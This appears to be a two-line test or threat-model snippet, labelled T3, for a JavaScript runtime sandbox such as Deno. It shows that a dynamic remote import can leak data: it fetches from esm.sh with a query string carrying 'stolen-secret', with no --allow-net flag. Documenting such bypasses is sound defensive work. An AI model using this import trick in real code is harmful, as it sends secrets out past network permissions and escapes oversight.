// T3: a remote import is an exfiltration channel, fetched with no --allow-net.
await import("https://esm.sh/left-pad?data=stolen-secret");
